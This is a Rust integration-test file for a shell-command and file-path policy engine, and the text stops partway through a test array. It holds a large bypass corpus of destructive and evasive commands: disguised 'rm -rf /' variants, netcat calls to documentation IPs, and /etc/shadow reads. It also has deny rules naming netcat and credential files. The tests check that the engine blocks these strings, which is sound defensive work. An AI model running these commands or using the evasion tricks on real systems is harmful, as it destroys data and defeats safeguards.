//! Integration tests of the policy engine: examples, rule kinds × modes, the bypass corpus,
//! properties, reload and fixtures.
#![allow(clippy::unwrap_used, missing_docs)]

use std::sync::{Arc, Mutex};

use tether_model::selector::HostFacts;
use tether_model::{Alert, AlertSink, Role};
use tether_policy::{
    Decision, MAX_INPUT_BYTES, Mode, Policy, PolicyEngine, PolicyError, PolicySpec, Request,
    Verdict, builtin, run_fixtures,
};

const EXAMPLE_POLICY: &str = include_str!("../examples/policy.toml");
const EXAMPLE_FIXTURES: &str = include_str!("../examples/policy-tests.toml");

/// Compiles the body of a `[policy]` table (written without the `policy.` prefix).
fn policy(toml_body: &str) -> Policy {
    Policy::compile(&toml::from_str::<PolicySpec>(toml_body).unwrap()).unwrap()
}

fn with_mode(toml_body: &str, mode: &str) -> Policy {
    policy(&format!("mode = \"{mode}\"\n{toml_body}"))
}

fn eval(p: &Policy, req: Request) -> Decision {
    p.evaluate(&req)
}

const BASIC: &str = r#"
allowed_roots = ["/srv", "/var/log"]
[[deny_commands]]
id = "no-rm-root"
pattern = '^rm\s+(-\S+\s+)*(/|/\*)(\s|$)'
message = "never"
[[deny_commands]]
id = "power"
pattern = '^(reboot|shutdown)\b'
approval = true
[[deny_paths]]
id = "shadow"
pattern = '^/etc/shadow$'
[[deny_paths]]
id = "secrets-dir"
pattern = '^/srv/secrets(/|$)'
"#;

mod examples {
    use super::*;

    #[test]
    fn example_policy_parses_and_compiles() {
        let spec = PolicySpec::from_toml_str(EXAMPLE_POLICY).unwrap();
        assert_eq!(spec.mode, Mode::Enforce);
        assert_eq!(spec.scopes.len(), 2);
        assert_eq!(spec.scopes[1].allowed_roots, ["/srv/app"]);
        assert!(spec.scopes[1].deny_commands[0].message.is_some());
        let p = Policy::compile(&spec).unwrap();
        assert_eq!(p.rule_count(), 10);
    }

    #[test]
    fn example_fixtures_all_pass() {
        let p = Policy::from_toml_str(EXAMPLE_POLICY).unwrap();
        let report = run_fixtures(&p, EXAMPLE_FIXTURES).unwrap();
        assert!(report.passed(), "{report}");
        assert_eq!(report.total, 24);
    }

    #[test]
    fn fixture_mismatches_are_reported_precisely() {
        let p = Policy::from_toml_str(EXAMPLE_POLICY).unwrap();
        let text = r#"
[[case]]
name = "ok"
expect = "allow"
request = { kind = "exec", command = "ls" }

[[case]]
expect = "allow"
request = { kind = "exec", command = "rm -rf /" }

[[case]]
name = "wrong rule"
expect = "deny"
expect_rules = ["power", "no-rm-root"]
request = { kind = "exec", command = "rm -rf /" }
"#;
        let r = run_fixtures(&p, text).unwrap();
        assert!(!r.passed());
        assert_eq!(r.total, 3);
        assert_eq!(r.mismatches.len(), 2);
        let m = &r.mismatches[0];
        assert_eq!((m.index, m.name.as_str()), (2, "case 2"));
        assert_eq!((m.expected, m.got), (Verdict::Allow, Verdict::Deny));
        // `/` also contains the credential files of `no-secrets` (class 5: directories).
        assert_eq!(m.got_rules, ["no-rm-root", "no-secrets"]);
        assert!(m.reason.contains("no-rm-root"), "{}", m.reason);
        let m = &r.mismatches[1];
        assert_eq!(
            (m.index, m.expected, m.got),
            (3, Verdict::Deny, Verdict::Deny)
        );
        assert_eq!(m.missing_rules, ["power"]);
        let shown = r.to_string();
        assert!(
            shown.contains("FAIL case 2 (case 2): expected allow, got deny"),
            "{shown}"
        );
        assert!(
            shown.contains("expected rule(s) power not among [no-rm-root, no-secrets]"),
            "{shown}"
        );
        assert!(
            shown.ends_with("1 of 3 policy test case(s) passed"),
            "{shown}"
        );
    }

    #[test]
    fn broken_fixture_files_are_errors_with_a_position() {
        let p = Policy::from_toml_str(EXAMPLE_POLICY).unwrap();
        let e = run_fixtures(
            &p,
            "[[case]]\nexpect = \"maybe\"\nrequest = { kind = \"exec\" }\n",
        )
        .unwrap_err();
        let msg = e.to_string();
        assert!(
            msg.contains("policy test fixtures") && msg.contains("line"),
            "{msg}"
        );
        let e = run_fixtures(
            &p,
            "[[case]]\nexpect = \"allow\"\nrequest = { kind = \"exec\", cmd = \"ls\" }\n",
        )
        .unwrap_err();
        assert!(e.to_string().contains("cmd"), "{e}");
    }
}

mod compile_errors {
    use super::*;

    fn err(body: &str) -> PolicyError {
        match toml::from_str::<PolicySpec>(body) {
            Ok(spec) => Policy::compile(&spec).unwrap_err(),
            Err(e) => PolicyError::Parse {
                what: "policy file",
                message: e.to_string(),
            },
        }
    }

    #[test]
    fn each_problem_names_its_rule() {
        let e = err("[[deny_commands]]\nid = \"bad\"\npattern = '(unclosed'\n");
        assert!(
            matches!(&e, PolicyError::InvalidPattern { rule, .. } if rule == "bad"),
            "{e}"
        );

        let e = err("[[deny_commands]]\nid = \"huge\"\npattern = '(\\w{100}){100}'\n");
        assert!(
            matches!(&e, PolicyError::PatternTooComplex { rule, .. } if rule == "huge"),
            "{e}"
        );
        assert!(e.to_string().contains("`huge`"));

        let e = err(
            "[[deny_commands]]\nid = \"a\"\npattern = 'x'\n[[deny_paths]]\nid = \"a\"\npattern = 'y'\n",
        );
        assert!(
            matches!(&e, PolicyError::DuplicateRuleId { id, .. } if id == "a"),
            "{e}"
        );
        assert!(e.to_string().contains("deny_commands") && e.to_string().contains("deny_paths"));

        let e = err("[[allow_commands]]\nid = \"esc\"\npattern = 'a)|(b'\n");
        assert!(
            matches!(&e, PolicyError::InvalidPattern { rule, .. } if rule == "esc"),
            "{e}"
        );

        let e = err("[[deny_commands]]\nid = \"has space\"\npattern = 'x'\n");
        assert!(matches!(e, PolicyError::InvalidRuleId { .. }));

        let e = err("[[scope]]\nid = \"s\"\n");
        assert!(matches!(e, PolicyError::ScopeWithoutCondition { .. }));

        let e = err("[[scope]]\nid = \"s\"\nhosts = \"group:\"\n");
        assert!(
            matches!(&e, PolicyError::InvalidSelector { scope, .. } if scope == "s"),
            "{e}"
        );

        let e =
            err("[[scope]]\nid = \"s\"\nroles=[\"admin\"]\n[[scope]]\nid = \"s\"\nusers=[\"x\"]\n");
        assert!(matches!(e, PolicyError::InvalidScopeId { .. }));

        let e = err("allowed_roots = [\"srv\"]\n");
        assert!(matches!(e, PolicyError::InvalidRoot { .. }));

        let long = "a".repeat(5000);
        let e = err(&format!(
            "[[deny_commands]]\nid = \"long\"\npattern = '{long}'\n"
        ));
        assert!(matches!(e, PolicyError::PatternTooLong { .. }));
    }

    #[test]
    fn unknown_keys_and_modes_are_refused() {
        for body in [
            "mood = \"enforce\"",
            "mode = \"strict\"",
            "[[deny_commands]]\nid=\"x\"\npatern='y'",
        ] {
            let e = err(body);
            assert!(matches!(e, PolicyError::Parse { .. }), "{body}: {e}");
        }
        // A standalone file needs the [policy] table, like tetherd.toml.
        assert!(matches!(
            Policy::from_toml_str("mode = \"warn\"").unwrap_err(),
            PolicyError::Parse { .. }
        ));
    }

    #[test]
    fn pathological_pattern_compiles_fast_or_fails_fast() {
        let started = std::time::Instant::now();
        let _ = err("[[deny_commands]]\nid = \"p\"\npattern = '((a+)+)+(b{1,1000}){1,1000}'\n");
        assert!(started.elapsed() < std::time::Duration::from_secs(5));
        // And evaluation of an evil-regex shape on hostile input stays linear.
        let p = policy("[[deny_commands]]\nid = \"evil\"\npattern = '(a+)+$'\n");
        let input = "a".repeat(8000) + "!";
        let started = std::time::Instant::now();
        let d = eval(&p, Request::exec(input));
        assert_eq!(d.verdict, Verdict::Allow);
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
    }
}

mod table {
    use super::*;

    struct Case {
        req: Request,
        enforce: Verdict,
        rule: Option<&'static str>,
    }

    fn case(req: Request, enforce: Verdict, rule: Option<&'static str>) -> Case {
        Case { req, enforce, rule }
    }

    #[test]
    fn each_rule_kind_in_each_mode() {
        let cases = [
            case(Request::exec("ls -la /srv/app"), Verdict::Allow, None),
            case(Request::exec("rm -rf /"), Verdict::Deny, Some("no-rm-root")),
            case(
                Request::exec("reboot now"),
                Verdict::RequireApproval,
                Some("power"),
            ),
            case(
                Request::file_read("/etc/shadow"),
                Verdict::Deny,
                Some("shadow"),
            ),
            case(
                Request::file_read("/srv/secrets/key"),
                Verdict::Deny,
                Some("secrets-dir"),
            ),
            case(Request::file_write("/srv/app/x"), Verdict::Allow, None),
            case(
                Request::file_read("/home/x"),
                Verdict::Deny,
                Some(builtin::OUTSIDE_ROOTS),
            ),
            case(
                Request::file_read("srv/x"),
                Verdict::Deny,
                Some(builtin::UNSAFE_INPUT),
            ),
            case(
                Request::exec("cat /etc/shadow"),
                Verdict::Deny,
                Some("shadow"),
            ),
            case(
                Request::exec("echo x > /etc/shadow"),
                Verdict::Deny,
                Some("shadow"),
            ),
            case(
                Request::exec("echo x > $OUT"),
                Verdict::Deny,
                // Class 5: the target can't be known and may match a deny_paths rule.
                Some("shadow"),
            ),
            case(Request::session(), Verdict::Allow, None),
        ];
        for mode in ["enforce", "warn", "off"] {
            let p = with_mode(BASIC, mode);
            for c in &cases {
                let d = p.evaluate(&c.req);
                let want = match (mode, c.enforce) {
                    (_, Verdict::Allow) | ("off", _) => Verdict::Allow,
                    ("warn", _) => Verdict::Warn,
                    (_, v) => v,
                };
                assert_eq!(d.verdict, want, "mode {mode}, {:?}: {}", c.req, d.reason);
                if let (Some(r), "enforce" | "warn") = (c.rule, mode) {
                    assert!(
                        d.rule_ids.iter().any(|x| x == r),
                        "{mode} {:?}: {:?}",
                        c.req,
                        d.rule_ids
                    );
                }
                if mode == "warn" && c.enforce != Verdict::Allow {
                    assert!(d.reason.starts_with("warn mode"), "{}", d.reason);
                }
                assert_eq!(d.mode.as_str(), mode);
            }
        }
    }

    #[test]
    fn messages_and_trace_explain_the_verdict() {
        let p = with_mode(BASIC, "enforce");
        let d = eval(&p, Request::exec("ls; rm -rf /"));
        assert_eq!(d.verdict, Verdict::Deny);
        assert!(
            d.reason
                .contains("`rm -rf /` matches deny rule `no-rm-root`: never"),
            "{}",
            d.reason
        );
        let shown = d.to_string();
        assert!(shown.contains("Passed: ls"), "{shown}");
        assert!(shown.contains("Denied: rm -rf / [no-rm-root]"), "{shown}");
    }

    #[test]
    fn hard_limits_apply_in_every_mode() {
        for mode in ["enforce", "warn", "off"] {
            let p = with_mode(BASIC, mode);
            let d = eval(&p, Request::exec("x".repeat(MAX_INPUT_BYTES + 1)));
            assert_eq!(d.verdict, Verdict::Deny);
            assert_eq!(d.rule_ids, [builtin::INPUT_TOO_LONG]);
            assert!(
                d.reason.contains("8193 bytes; the limit is 8192"),
                "{}",
                d.reason
            );
            let d = eval(&p, Request::exec("x".repeat(MAX_INPUT_BYTES)));
            assert_eq!(d.verdict, Verdict::Allow);
            let mut r = Request::exec("ls");
            r.command = None;
            assert_eq!(eval(&p, r).rule_ids, [builtin::INVALID_REQUEST]);
        }
    }

    const SCOPED: &str = r#"
[[allow_commands]]
id = "global-safe"
pattern = '(ls|id|uptime|systemctl .*)( .*)?'
[[scope]]
id = "prod-ops"
roles = ["operator"]
hosts = "tag:env=prod,!host:canary1"
allowed_roots = ["/srv/app"]
  [[scope.allow_commands]]
  id = "prod-status"
  pattern = 'systemctl status [a-z]+|uptime'
  [[scope.deny_commands]]
  id = "prod-no-stop"
  pattern = 'systemctl stop'
[[scope]]
id = "dave"
users = ["dave"]
  [[scope.allow_commands]]
  id = "dave-ls"
  pattern = 'ls( .*)?'
  approval = true
"#;

    #[test]
    fn scopes_only_tighten() {
        let p = policy(SCOPED);
        let prod = HostFacts::named("web1").with_tag("env", "prod");
        let canary = HostFacts::named("canary1").with_tag("env", "prod");
        let op = |cmd: &str, host: &HostFacts| {
            p.evaluate(
                &Request::exec(cmd)
                    .by("bob", Role::Operator)
                    .on(host.clone()),
            )
        };
        // Global allow list alone.
        assert_eq!(
            op("systemctl restart nginx", &HostFacts::named("dev")).verdict,
            Verdict::Allow
        );
        assert_eq!(
            op("rm x", &HostFacts::named("dev")).rule_ids,
            [builtin::NOT_ALLOWED]
        );
        // On prod both allow lists must match.
        let d = op("systemctl status nginx", &prod);
        assert_eq!(d.verdict, Verdict::Allow, "{}", d.reason);
        assert_eq!(d.rule_ids, ["global-safe", "prod-status"]);
        let d = op("systemctl restart nginx", &prod);
        assert_eq!(d.verdict, Verdict::Deny);
        assert!(
            d.reason.contains("scope `prod-ops`'s allow list"),
            "{}",
            d.reason
        );
        assert!(
            op("systemctl stop nginx", &prod)
                .rule_ids
                .contains(&"prod-no-stop".to_owned())
        );
        // The negated canary is not in the scope; admins are not either.
        assert_eq!(
            op("systemctl restart nginx", &canary).verdict,
            Verdict::Allow
        );
        let admin = p.evaluate(
            &Request::exec("systemctl stop nginx")
                .by("root", Role::Admin)
                .on(prod.clone()),
        );
        assert_eq!(admin.verdict, Verdict::Allow);
        // Scoped roots add to global ones.
        let f = p.evaluate(
            &Request::file_read("/etc/hosts")
                .by("bob", Role::Operator)
                .on(prod.clone()),
        );
        assert_eq!(f.rule_ids, [builtin::OUTSIDE_ROOTS]);
        let f = p.evaluate(
            &Request::file_read("/srv/app/log")
                .by("bob", Role::Operator)
                .on(prod),
        );
        assert_eq!(f.verdict, Verdict::Allow);
        // A user scope with an approval allow rule.
        let d = p.evaluate(&Request::exec("ls /").by("dave", Role::Operator));
        assert_eq!(d.verdict, Verdict::RequireApproval);
        assert_eq!(d.rule_ids, ["dave-ls"]);
        // Allow rules are anchored: they must match the whole simple command.
        assert_eq!(op("xls", &HostFacts::named("dev")).verdict, Verdict::Deny);
        // Every segment must be allowed, including substitutions.
        assert_eq!(
            op("ls $(rm -rf /tmp/x)", &HostFacts::named("dev")).verdict,
            Verdict::Deny
        );
        // Assignments that change later commands are commands too.
        assert_eq!(
            op("PATH=/tmp/evil; ls", &HostFacts::named("dev")).verdict,
            Verdict::Deny
        );
        // Interactive sessions can't be checked against an allow list.
        assert_eq!(
            p.evaluate(&Request::session()).rule_ids,
            [builtin::INTERACTIVE_SESSION]
        );
    }

    #[test]
    fn deny_beats_approval_beats_allow() {
        let p = policy(
            "[[deny_commands]]\nid = \"a\"\npattern = 'reboot'\napproval = true\n[[deny_commands]]\nid = \"d\"\npattern = 'now'\n",
        );
        let d = eval(&p, Request::exec("reboot now"));
        assert_eq!(
            (d.verdict, d.rule_ids),
            (Verdict::Deny, vec!["d".to_owned()])
        );
        let d = eval(&p, Request::exec("reboot later"));
        assert_eq!(
            (d.verdict, d.rule_ids),
            (Verdict::RequireApproval, vec!["a".to_owned()])
        );
    }
}

mod bypass {
    use super::*;

    const DENY: &str = r#"
allowed_roots = ["/srv", "/tmp"]
[[deny_commands]]
id = "no-rm-root"
pattern = '^rm\s+(-\S+\s+)*(/|/\*)(\s|$)'
[[deny_commands]]
id = "no-nc"
pattern = '^(nc|ncat|netcat)\b'
[[deny_paths]]
id = "shadow"
pattern = '^/etc/shadow$'
"#;

    /// Every one of these must be denied in enforce mode.
    const CORPUS: &[&str] = &[
        // chaining
        "ls; rm -rf /",
        "ls && rm -rf /",
        "false || rm -rf /",
        "ls | rm -rf /",
        "ls & rm -rf /",
        "ls\nrm -rf /",
        "ls |& rm -rf /",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "if true; then rm -rf /; fi",
        "while true; do rm -rf /; done",
        "! rm -rf /",
        // substitution
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "echo \"$(rm -rf /)\"",
        "cat <(rm -rf /)",
        "tee >(nc 198.51.100.1 9)",
        "echo $(echo $(echo `rm -rf /`))",
        "echo ${x:-$(rm -rf /)}",
        "echo $((1 + $(rm -rf / ; echo 1)))",
        // quoting and escapes
        "r'm' -rf /",
        "\"rm\" -rf /",
        "r\\m -rf /",
        "rm -rf '/'",
        "rm -rf \"/\"",
        "rm -r\"f\" /",
        "rm -rf \\/",
        "rm -rf -- /",
        "rm\t-rf\t/",
        "rm -rf /\\\n",
        "r\\\nm -rf /",
        "$'\\x72\\x6d' -rf /",
        "echo 'unbalanced",
        "echo \"unbalanced",
        // wrappers and interpreters
        "sudo rm -rf /",
        "sudo -u root -g wheel rm -rf /",
        "/bin/rm -rf /",
        "/usr/bin/../bin/rm -rf /",
        "env FOO=1 rm -rf /",
        "FOO=1 rm -rf /",
        "nohup nice -n 10 timeout 5 rm -rf /",
        "xargs rm -rf / < /dev/null",
        "sh -c 'rm -rf /'",
        "bash -lc \"rm -rf /\"",
        "sh -c 'sh -c \"rm -rf /\"'",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        "trap 'rm -rf /' EXIT",
        "find / -maxdepth 0 -exec rm -rf {} \\;",
        "command nc 203.0.113.1 80",
        "exec nc 203.0.113.1 80",
        // dynamic command names, globs, braces
        "$RM -rf /",
        "${RM} -rf /",
        "rm${IFS}-rf${IFS}/",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "/???/r? -rf /",
        "/bin/r* -rf /",
        "{rm,-rf,/}",
        // shell constructs the splitter refuses
        "for x in /; do rm -rf $x; done",
        "case x in *) rm -rf /;; esac",
        "f() { rm -rf /; }; f",
        "function f { rm -rf /; }; f",
        "alias ls='rm -rf /'",
        "bash <<EOF\nrm -rf /\nEOF",
        "bash <<< 'rm -rf /'",
        // unicode look-alikes and invisible characters
        "ls\u{FF1B} rm -rf /",
        "ls \u{037E} rm -rf /",
        "rm\u{00A0}-rf\u{00A0}/",
        "r\u{200B}m -rf /",
        "rm -rf \u{2215}",
        "ls \u{202E}/ fr- mr",
        "\u{FEFF}rm -rf /",
        "rm \u{2010}rf /",
        "\u{0440}m -rf /", // Cyrillic er
        "ls\u{2028}rm -rf /",
        // control characters
        "ls\0; rm -rf /",
        "ls\r rm -rf /",
        "ls \u{1b}[2K",
        // path tricks
        "cat /etc/../etc//shadow",
        "cat /etc/./shadow",
        "cat //etc///shadow",
        "cat /tmp/../etc/shadow",
        "cp /etc/shadow /tmp/x",
        "echo x > /etc/shadow",
        "echo x >> /etc/../etc/shadow",
        "cat < /etc/shadow",
        "dd if=/etc/shadow of=/tmp/x",
        "echo x > \"$TARGET\"",
    ];

    #[test]
    fn every_bypass_is_denied_in_enforce_mode() {
        let p = with_mode(DENY, "enforce");
        let mut failures = Vec::new();
        for cmd in CORPUS {
            let d = eval(&p, Request::exec(*cmd));
            if d.verdict != Verdict::Deny {
                failures.push(format!("{cmd:?} → {} ({})", d.verdict, d.reason));
            }
        }
        assert!(failures.is_empty(), "not denied:\n{}", failures.join("\n"));
    }

    #[test]
    fn path_tricks_in_file_requests() {
        let p = with_mode(DENY, "enforce");
        for path in [
            "/etc/shadow",
            "/etc/../etc//shadow",
            "/srv/../etc/shadow",
            "/etc/./shadow/",
            "//etc/shadow",
            "/../../etc/shadow",
            "/srv/../../../etc/shadow",
            "/srv/x/../../etc/passwd",
            "/srv\0/x",
            "/srv/\u{202E}x",
            "srv/x",
            "../etc/shadow",
            "/srvx/file",
        ] {
            for req in [Request::file_read(path), Request::file_write(path)] {
                let d = p.evaluate(&req);
                assert_eq!(d.verdict, Verdict::Deny, "{path:?}: {}", d.reason);
            }
        }
        let d = p.evaluate(&Request::file_read("/srv/./app//x/../y"));
        assert_eq!(d.verdict, Verdict::Allow, "{}", d.reason);
    }

    #[test]
    fn overlong_input_is_denied_with_that_reason() {
        let p = with_mode(DENY, "enforce");
        let cmd = format!("ls {}", "a".repeat(9000));
        let d = eval(&p, Request::exec(cmd));
        assert_eq!(d.verdict, Verdict::Deny);
        assert!(d.reason.contains("limit is 8192 bytes"), "{}", d.reason);
        let d = eval(
            &p,
            Request::file_read(format!("/srv/{}", "a/".repeat(5000))),
        );
        assert_eq!(d.rule_ids, [builtin::INPUT_TOO_LONG]);
    }

    #[test]
    fn harmless_commands_still_pass() {
        let p = with_mode(DENY, "enforce");
        for cmd in [
            "ls -la /srv",
            "rm -rf /srv/app/cache",
            "echo 'rm -rf /' > /tmp/note",
            "grep -r 'a|b' /var/log 2>/dev/null | head -5",
            "systemctl status nginx && journalctl -u nginx -n 20",
            "echo \"héllo wörld\"",
            "cd /srv && ls",
            "FOO=1 make -j2",
            "[ -f /srv/x ] && cat /srv/x",
            "ls # rm -rf /",
            "echo $HOME ${USER} $?",
            "tar czf /tmp/b.tgz -C /srv app",
        ] {
            let d = eval(&p, Request::exec(cmd));
            assert_eq!(d.verdict, Verdict::Allow, "{cmd:?}: {}", d.reason);
        }
    }
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    fn example() -> &'static Policy {
        static P: std::sync::OnceLock<Policy> = std::sync::OnceLock::new();
        P.get_or_init(|| Policy::from_toml_str(EXAMPLE_POLICY).unwrap())
    }

    fn request() -> impl Strategy<Value = Request> {
        let text = prop_oneof![
            "\\PC{0,80}",
            "[a-z /;&|$`'\"(){}<>\\\\#*?=\n\t.-]{0,80}",
            Just("x".repeat(8193)),
        ];
        (
            0..4u8,
            text.clone(),
            proptest::option::of(text),
            0..4usize,
            "[a-z]{0,5}",
            any::<bool>(),
        )
            .prop_map(|(kind, a, b, role, user, prod)| {
                let mut r = match kind {
                    0 => Request::exec(a),
                    1 => Request::file_read(a),
                    2 => Request::file_write(a),
                    _ => Request::session(),
                };
                if kind == 3 {
                    r.command = b;
                } else if kind == 0 {
                    r.path = b;
                }
                let mut host = HostFacts::named("web1");
                if prod {
                    host = host.with_tag("env", "prod");
                }
                r.by(user, Role::ALL[role]).on(host)
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
        #[test]
        fn evaluate_never_panics_and_is_deterministic(req in request()) {
            let a = example().evaluate(&req);
            let b = example().evaluate(&req);
            prop_assert_eq!(&a, &b);
            prop_assert!(!a.reason.is_empty());
            if a.verdict == Verdict::Deny {
                prop_assert!(!a.rule_ids.is_empty());
            }
        }
    }
}

mod engine {
    use super::*;

    #[derive(Default)]
    struct Collect(Mutex<Vec<Alert>>);

    impl AlertSink for Collect {
        fn raise(&self, alert: Alert) {
            self.0.lock().unwrap().push(alert);
        }
    }

    /// Reads one sample from the text exposition format, as a scraper would.
    fn metric(reg: &prometheus::Registry, name: &str, label: Option<&str>) -> f64 {
        use prometheus::Encoder;
        let mut buf = Vec::new();
        prometheus::TextEncoder::new()
            .encode(&reg.gather(), &mut buf)
            .unwrap();
        let text = String::from_utf8(buf).unwrap();
        let key = match label {
            Some(v) => format!("{name}{{verdict=\"{v}\"}} "),
            None => format!("{name} "),
        };
        text.lines()
            .find_map(|l| l.strip_prefix(key.as_str()))
            .and_then(|v| v.trim().parse().ok())
            .unwrap_or(f64::NAN)
    }

    #[test]
    fn reload_swaps_and_a_broken_spec_keeps_the_old_policy() {
        let alerts = Arc::new(Collect::default());
        let reg = prometheus::Registry::new();
        let engine = PolicyEngine::new(
            Policy::from_toml_str(EXAMPLE_POLICY).unwrap(),
            &reg,
            alerts.clone(),
        )
        .unwrap();
        assert_eq!(
            engine.evaluate(&Request::exec("rm -rf /")).verdict,
            Verdict::Deny
        );
        assert_eq!(
            engine.evaluate(&Request::exec("ls")).verdict,
            Verdict::Allow
        );

        // A broken file: parse error.
        let e = engine
            .reload_toml("[policy]\nmode = \"enforce\"\n[[policy.deny_commands]]\nid = ")
            .unwrap_err();
        assert!(matches!(e, PolicyError::Parse { .. }));
        // A broken spec: pattern too complex.
        let mut spec = PolicySpec::from_toml_str(EXAMPLE_POLICY).unwrap();
        spec.deny_commands[0].pattern = "(\\w{100}){100}".into();
        let e = engine.reload(&spec).unwrap_err();
        assert!(matches!(e, PolicyError::PatternTooComplex { .. }));
        // Still the old policy.
        assert_eq!(
            engine.evaluate(&Request::exec("rm -rf /")).rule_ids,
            ["no-rm-root", "no-secrets"]
        );
        let raised = alerts.0.lock().unwrap().clone();
        assert_eq!(raised.len(), 2);
        assert!(raised.iter().all(|a| a.kind == "policy_rebuild_failed"));
        assert!(
            raised[1].message.contains("no-rm-root"),
            "{}",
            raised[1].message
        );
        assert_eq!(
            metric(&reg, "tether_policy_reload_failures_total", None),
            2.0
        );

        // A good reload takes effect at once.
        engine.reload_toml("[policy]\nmode = \"warn\"\n").unwrap();
        let d = engine.evaluate(&Request::exec("rm -rf /"));
        assert_eq!(d.verdict, Verdict::Allow);
        assert_eq!(engine.policy().mode(), Mode::Warn);
        assert_eq!(alerts.0.lock().unwrap().len(), 2);

        assert_eq!(
            metric(&reg, "tether_policy_decisions_total", Some("deny")),
            2.0
        );
        assert_eq!(
            metric(&reg, "tether_policy_decisions_total", Some("allow")),
            2.0
        );
        assert_eq!(
            metric(
                &reg,
                "tether_policy_decisions_total",
                Some("require-approval")
            ),
            0.0
        );
        assert_eq!(
            metric(&reg, "tether_policy_evaluation_seconds_count", None),
            4.0
        );
        // Registering a second engine in the same registry is a clear error.
        let e = PolicyEngine::new(
            Policy::from_toml_str("[policy]").unwrap(),
            &reg,
            alerts.clone(),
        );
        assert!(matches!(e, Err(PolicyError::Metrics(_))));
    }

    #[test]
    fn concurrent_evaluations_during_reloads_see_a_whole_policy() {
        let reg = prometheus::Registry::new();
        let engine = Arc::new(
            PolicyEngine::new(
                Policy::from_toml_str("[policy]").unwrap(),
                &reg,
                Arc::new(tether_model::NoAlerts),
            )
            .unwrap(),
        );
        let deny_ls = PolicySpec::from_toml_str(
            "[policy]\n[[policy.deny_commands]]\nid = \"no-ls\"\npattern = '^ls'\n",
        )
        .unwrap();
        let open = PolicySpec::default();
        let readers: Vec<_> = (0..2)
            .map(|_| {
                let e = engine.clone();
                std::thread::spawn(move || {
                    for _ in 0..2000 {
                        let d = e.evaluate(&Request::exec("ls"));
                        assert!(
                            d.verdict == Verdict::Allow && d.rule_ids.is_empty()
                                || d.verdict == Verdict::Deny && d.rule_ids == ["no-ls"]
                        );
                    }
                })
            })
            .collect();
        for i in 0..200 {
            engine
                .reload(if i % 2 == 0 { &deny_ls } else { &open })
                .unwrap();
        }
        for r in readers {
            r.join().unwrap();
        }
    }
}

#[test]
fn decisions_serialize_for_the_control_api() {
    let p = policy(BASIC);
    let d = eval(&p, Request::exec("reboot"));
    let json = serde_json::to_value(&d).unwrap();
    assert_eq!(json["verdict"], "require-approval");
    assert_eq!(json["mode"], "enforce");
    assert_eq!(json["rule_ids"][0], "power");
    let req: Request = serde_json::from_str(
        r#"{"kind":"file_read","path":"/srv/x","user":"a","role":"admin","host":{"name":"h","tags":{"env":"prod"}}}"#,
    )
    .unwrap();
    assert_eq!(eval(&p, req).verdict, Verdict::Allow);
}

/// The five bypass classes of the second review, against the shipped example rules: every
/// case is denied in enforce mode and the reason names its class; near-misses still pass.
mod classes {
    use super::*;

    fn example() -> &'static Policy {
        static P: std::sync::OnceLock<Policy> = std::sync::OnceLock::new();
        P.get_or_init(|| Policy::from_toml_str(EXAMPLE_POLICY).unwrap())
    }

    /// Each command must be denied, with `class` in the reason (or, for chained findings, in
    /// the trace).
    fn all_denied(class: &str, cases: &[&str]) {
        let mut failures = Vec::new();
        for cmd in cases {
            let d = example().evaluate(&Request::exec(*cmd));
            let named = d.reason.contains(class) || d.trace.iter().any(|t| t.note.contains(class));
            if d.verdict != Verdict::Deny || !named {
                failures.push(format!("{cmd:?} → {} ({})", d.verdict, d.reason));
            }
        }
        assert!(
            failures.is_empty(),
            "not denied with {class:?}:\n{}",
            failures.join("\n")
        );
    }

    fn all_allowed(cases: &[&str]) {
        let mut failures = Vec::new();
        for cmd in cases {
            let d = example().evaluate(&Request::exec(*cmd));
            if d.verdict != Verdict::Allow {
                failures.push(format!("{cmd:?} → {} ({})", d.verdict, d.reason));
            }
        }
        assert!(failures.is_empty(), "not allowed:\n{}", failures.join("\n"));
    }

    #[test]
    fn class_1_programs_that_run_a_string() {
        all_denied(
            "runs a string",
            &[
                "bash -c -- 'rm -rf /'",
                "bash -x -c 'rm -rf /'",
                "bash -c -x 'rm -rf /'",
                "sh -ec 'rm -rf /'",
                "bash -o pipefail -c 'rm -rf /'",
                "su -c 'rm -rf /'",
                "su - root -c 'rm -rf /'",
                "su -lc 'rm -rf /'",
                "runuser -u root -- sh -c 'rm -rf /'",
                "runuser root -c 'rm -rf /'",
                "flock /tmp/lock -c 'rm -rf /'",
                "flock -w 5 /tmp/lock -c 'rm -rf /'",
                "script -qc 'rm -rf /' /dev/null",
                "script --command='rm -rf /'",
                "watch -n 1 rm -rf /",
                "watch 'rm -rf /'",
                "ssh web1 rm -rf /",
                "ssh -p 22 -i key web1 'rm -rf /'",
                "parallel rm -rf ::: /",
                "xargs sh -c 'rm -rf /'",
                "xargs -n1 bash -c 'rm -rf /'",
                "find /tmp -exec sh -c 'rm -rf /' \\;",
                "find /tmp -execdir bash -c 'rm -rf /' {} +",
                "env -S 'rm -rf /'",
                "env --split-string='rm -rf /'",
                "sg wheel -c 'rm -rf /'",
                "fish --command='rm -rf /'",
                "eval 'rm' '-rf' '/'",
            ],
        );
        all_allowed(&[
            "bash -c 'ls -la /srv'",
            "su -c 'systemctl status nginx' root",
            "find /srv -name '*.log' -exec gzip {} \\;",
            "watch -n 5 df -h",
        ]);
    }

    #[test]
    fn class_2_wrappers_with_options() {
        all_denied(
            "wrapper",
            &[
                "env -u A -u B -u C -u D rm -rf /",
                "env -i -u A -C /tmp X=1 rm -rf /",
                "timeout -s KILL 5 rm -rf /",
                "timeout -k 1 -s TERM 5s rm -rf /",
                "nice -n 5 rm -rf /",
                "ionice -c3 rm -rf /",
                "ionice -c 2 -n 7 rm -rf /",
                "setsid -f rm -rf /",
                "stdbuf -oL -eL rm -rf /",
                "stdbuf -o L rm -rf /",
                "chroot /mnt rm -rf /",
                "chroot --userspec=1:1 /mnt rm -rf /",
                "sudo -u USER -g G rm -rf /",
                "sudo -u a -g b -C 5 -D /tmp -h x -p y -r z -t w rm -rf /",
                "doas -u root rm -rf /",
                "pkexec --user root rm -rf /",
                "setpriv --reuid 0 --regid 0 --init-groups rm -rf /",
                "prlimit --nofile=1024 -p 1 rm -rf /",
                "busybox rm -rf /",
                "toybox rm -rf /",
                "fakeroot -- rm -rf /",
